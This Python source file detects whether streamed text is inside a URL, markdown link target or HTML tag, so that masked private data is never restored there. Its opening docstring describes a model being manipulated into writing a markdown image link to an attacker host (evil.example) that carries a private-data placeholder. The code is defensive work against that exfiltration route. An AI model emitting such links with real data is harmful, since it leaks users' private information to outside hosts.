"""Where a text is inside a link, so that nothing private is put there.

A model can be talked into writing `![](https://evil.example/?q=[EMAIL_1_k7q2xw])`. Restoring that
placeholder would hand the original to a foreign host as soon as the page shows the picture. So a
placeholder is never restored inside a link. `unmask` asks `LinkWatch` where it is; `mask` asks
`links_in` about the caller's text and masks a link that holds private data as a whole, so that no
placeholder ever stands inside a link of the caller's own. Both follow the same three rules below.

For example, here `-` is inside a link and a placeholder there becomes `[?]`:

    see [x](mailto:a@b.example?body=c). and //d.example/e f <a title="g > h" href=i>j
             -------------------------      ------------      ------------------

The rules watch the text side by side, and where any of them is inside, it is inside a link:

- an address: from two slashes of either kind, `http:`, `https:`, `www.`, the name of a host and
  its slash (`d.example/`), or a character reference that can stand for one of these, to ASCII white
  space. (Other white space, such as U+00A0, is a part of the address to those who follow it.) If a
  quote or `<` stands directly before it, then to the matching one or the end of the line, because
  between those an address may hold spaces.
- the target of a link in markdown: from `](` to `)` and on to white space, since the target may
  hold parentheses. Directly after `](` is inside too; there the placeholder of a whole link may
  stand and nothing else (`at_target`).
- a tag of HTML: from `<` and its name, or a scheme, to the `>` that ends it, as a browser reads it.
"""

import re
from collections.abc import Collection, Iterator
from typing import Final

_space: Final = r" \t\n\f\r"


class _Rule:
    """One way to be in a link: what opens it, and what each state waits for.

    A state is a pattern for the sign that it waits for, the state that each sign leads to, and the
    one any other sign leads to. The state `None` is outside.
    """

    def __init__(
        self,
        opening: str,
        first: str | None,
        states: dict[str, tuple[str, dict[str, str | None], str | None]],
    ) -> None:
        self._opening = re.compile(opening, re.I | re.A)
        self._first = first
        self._states = {
            name: (re.compile(sign), following, other)
            for name, (sign, following, other) in states.items()
        }

    def open(self, text: str, position: int) -> tuple[int, int, str] | None:
        """The next link: where it starts, where its mark ends, and the state after that."""
        for mark in self._opening.finditer(text, position):
            if self._first is not None:
                return mark.start("link"), mark.end(), self._first
            start = mark.start()
            if mark[0][0] in "/\\":
                if scheme := _scheme.search(text[max(position, start - 21) : start]):
                    start -= len(scheme[0])
            elif mark["host"]:
                host = _host.search(text[max(position, start - _longest_host) : start])
                start -= len(host[0]) if host else 0
                if text[max(position, start - 1) : start] == "@":
                    continue  # `a@d.example/b@e.example` are two addresses of mail
            before = text[start - 1] if start > position else ""
            return start, mark.end(), before if before in self._states else ""
        return None

    def close(self, state: str, text: str, position: int) -> tuple[str | None, int, int]:
        """The state at the end of the text or outside, and where the sign that ends it stands."""
        while True:
            pattern, following, other = self._states[state]
            sign = pattern.search(text, position)
            if sign is None:
                return state, len(text), len(text)
            position, after = sign.end(), following.get(sign[0], other)
            if after is None:
                return None, sign.start(), position
            state = after


_scheme: Final = re.compile(r"[a-z0-9+.\-]{1,20}:?\Z", re.I | re.A)
_longest_host: Final = 60  # of a longer one, only so much is looked at
_host: Final = re.compile(r"[a-z0-9.\-]{1,60}\Z", re.I | re.A)
_rules: Final = (
    _Rule(
        r"[/\\]{2}|https?:|www\.|&(?:\#|sol;|bsol;|colon;)"
        r"|(?P<host>(?<=[a-z0-9])\.[a-z]{2,20}/)",
        None,
        {
            "": (f"[{_space}]", {}, None),
            '"': (r'["\r\n]', {}, None),
            "'": (r"['\r\n]", {}, None),
            "`": (r"[`\r\n]", {}, None),
            "<": (r"[>\r\n]", {}, None),
        },
    ),
    _Rule(
        r"\]\((?P<link>)",
        "target",
        {
            "target": (r"[)<]", {")": "after", "<": "angle"}, None),
            "angle": (r"[>\r\n]", {}, "target"),
            "after": (f"[{_space}]", {}, None),
        },
    ),
    _Rule(
        rf"(?P<link><(?:/?[a-z][a-z0-9-]{{0,30}}[{_space}/]|[a-z][a-z0-9+.-]{{1,30}}:))",
        "before a name",
        {
            "before a name": (rf"[^{_space}/]", {">": None}, "name"),
            "name": (
                rf"[{_space}/=>]",
                {"/": "before a name", "=": "before a value", ">": None},
                "after a name",
            ),
            "after a name": (
                rf"[^{_space}]",
                {"/": "before a name", "=": "before a value", ">": None},
                "name",
            ),
            "before a value": (rf"[^{_space}]", {'"': '"', "'": "'", ">": None}, "value"),
            "value": (rf"[{_space}>]", {">": None}, "before a name"),
            '"': ('"', {}, "before a name"),
            "'": ("'", {}, "before a name"),
        },
    ),
)
_reach: Final = 100  # how far back a mark, its scheme and its quote can lie


def every_link(text: str) -> Iterator[tuple[int, int, int]]:
    """(start, mark, end) of each link: inside it from `mark` to `end`; it begins at `start`."""
    for rule in _rules:
        position = 0
        while opening := rule.open(text, position):
            start, mark, first = opening
            _, end, position = rule.close(first, text, mark)
            yield start, mark, end


def links_in(text: str) -> list[tuple[int, int, int]]:
    """The links in order, with those that touch made one, so no `start` is inside another link."""
    links: list[tuple[int, int, int]] = []
    for start, mark, end in sorted(every_link(text)):
        if links and start <= links[-1][2]:
            before = links.pop()
            start, mark, end = before[0], min(before[1], mark), max(before[2], end)
        links.append((start, mark, end))
    return links


class _RuleWatch:
    """Follows one rule through a text that comes in pieces."""

    def __init__(self, rule: _Rule) -> None:
        self._rule = rule
        self.state: str | None = None  # None outside
        self.link = ""  # what of the link was read, as far as it matters
        self._tail = ""

    def feed(self, piece: str) -> None:
        text, position = self._tail + piece, 0
        mark = len(self._tail)
        begin = mark
        while True:
            if self.state is None:
                opening = self._rule.open(text, position)
                if opening is None:
                    break
                begin, mark, self.state = opening
                self.link = ""
            self.state, _, position = self._rule.close(self.state, text, mark)
            if self.state is not None:
                if len(self.link) <= _longest_link:
                    self.link += text[begin:]
                break
        self._tail = "" if self.state is not None else text[position:][-_reach:]


_longest_link: Final = 4000
_listed: Final = re.compile(
    r"<?https?://(?P<host>[a-z0-9.-]{1,253})(?::[0-9]{1,5})?[/?#]"
    r"(?:[a-z0-9._~%?\#=&+,;:@!$*'()\[\]-]++|/(?!/))*",
    re.I | re.A,
)


class LinkWatch:
    """Follows a text that comes in pieces and knows whether its end is inside a link."""

    def __init__(self, hosts: Collection[str] = ()) -> None:
        self._hosts = frozenset(host.lower() for host in hosts)
        self.reset()

    @property
    def inside(self) -> bool:
        return any(self._open())

    @property
    def at_target(self) -> bool:
        """Whether the end is inside only because a link's target in markdown begins there."""
        return not any(watch.link for watch in self._open())

    @property
    def to_listed_host(self) -> bool:
        """Whether every link that the end is inside of goes to one of the hosts, and plainly so.

        The link must say the host before anything else and hold nothing that could be another.
        """
        if not self._hosts:
            return False
        for watch in self._open():
            plain = _listed.fullmatch(watch.link)
            if plain is None or plain["host"].lower() not in self._hosts:
                return False
        return True

    def _open(self) -> Iterator[_RuleWatch]:
        return (watch for watch in self._watches if watch.state is not None)

    def reset(self) -> None:
        self._watches = [_RuleWatch(rule) for rule in _rules]

    def feed(self, piece: str) -> None:
        for watch in self._watches:
            watch.feed(piece)


def _parentheses(most: int) -> dict[str, tuple[str, dict[str, str | None], str | None]]:
    """The states of a target that ends with the `)` that belongs to its `(`."""
    states: dict[str, tuple[str, dict[str, str | None], str | None]] = {}
    for depth in range(1, most + 1):
        here, less = str(depth), str(depth - 1) if depth > 1 else None
        more = str(min(depth + 1, most))
        states[here] = (
            r"[()<\\]",
            {"(": more, ")": less, "<": f"<{here}", "\\": f"\\{here}"},
            None,
        )
        states[f"<{here}"] = (r"[>\r\n]", {}, here)
        states[f"\\{here}"] = (r"[\s\S]", {}, here)
    return states


# JSON that is shown as markdown: a target or a tag that one string opens goes on in the next.
_rules_over_strings: Final = (_Rule(r"\]\((?P<link>)", "1", _parentheses(9)), _rules[2])


class JsonLinkWatch(LinkWatch):
    """The same for JSON text, which is read in two ways at once.

    As JSON: what the strings say, and a link in one string ends where the next one begins. A quote
    that follows a link outside of every string shows that this is no JSON, so from there on no
    quote ends a link.

    As markdown, because some show an answer in JSON as such: of `{"a":"![](//e.x/?","b":"c)"}` all
    up to `)` is one link. A target ends with its `)` here, else `{"a":"[b](c)","d":"e"}` would be
    a link to its end.
    """

    _unit: Final = re.compile(r'"|\\u[0-9a-fA-F]{4}|\\[^u]|[^"\\]+|\\u|\\', re.DOTALL)
    _unfinished: Final = re.compile(r"\\(?:u[0-9a-fA-F]{0,3})?\Z")
    _short: Final = {"n": "\n", "r": "\r", "t": "\t", "b": "\b", "f": "\f"}

    def __init__(self, hosts: Collection[str] = ()) -> None:
        super().__init__(hosts)
        self._over_strings = [_RuleWatch(rule) for rule in _rules_over_strings]
        self._escape = ""
        self._in_string = False
        self._in_last_string = False  # whether a link stood open where it ended
        self._is_json = True

    @property
    def inside(self) -> bool:
        return self._in_last_string or super().inside

    @property
    def at_target(self) -> bool:
        return not self._in_last_string and super().at_target

    @property
    def to_listed_host(self) -> bool:
        return not self._in_last_string and super().to_listed_host

    def _open(self) -> Iterator[_RuleWatch]:
        yield from super()._open()
        yield from (watch for watch in self._over_strings if watch.state is not None)

    def feed(self, piece: str) -> None:
        for watch in self._over_strings:
            watch.feed(piece)
        text = self._escape + piece
        complete = 0
        for unit in self._unit.finditer(text):
            if self._unfinished.match(text, unit.start()):
                break
            self._take(unit[0])
            complete = unit.end()
        self._escape = text[complete:]

    def _take(self, unit: str) -> None:
        if unit == '"':
            self._quote()
        elif unit[0] != "\\":
            super().feed(unit)
        elif len(unit) == 6:
            super().feed(chr(int(unit[2:], 16)))
        elif len(unit) == 2 and unit != "\\u":
            super().feed(self._short.get(unit[1], unit[1]))

    def _quote(self) -> None:
        """A string begins or ends. A link in one ends when the next begins."""
        self._in_string = not self._in_string
        if self._in_string:
            self._is_json &= not any(super()._open())
            self._in_last_string = False
        elif self._is_json:
            self._in_last_string = any(super()._open())
            self.reset()
